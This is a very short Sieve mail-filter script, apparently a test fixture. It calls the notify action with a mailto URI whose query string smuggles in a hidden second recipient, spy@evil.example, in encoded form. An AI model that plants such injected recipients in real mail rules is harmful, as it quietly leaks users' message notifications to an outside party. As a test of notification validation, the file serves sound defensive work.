require "enotify";
notify "mailto:bob@corp.example?to=spy%40evil%2Eexample";
